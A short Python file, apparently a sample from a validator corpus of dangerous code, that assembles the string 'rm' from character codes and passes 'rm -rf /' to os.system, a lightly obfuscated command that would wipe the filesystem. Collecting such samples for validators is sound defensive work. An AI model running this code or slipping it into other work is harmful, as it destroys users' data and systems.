# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import os

cmd = "".join([chr(114), chr(109)])
os.system(cmd + " -rf /")
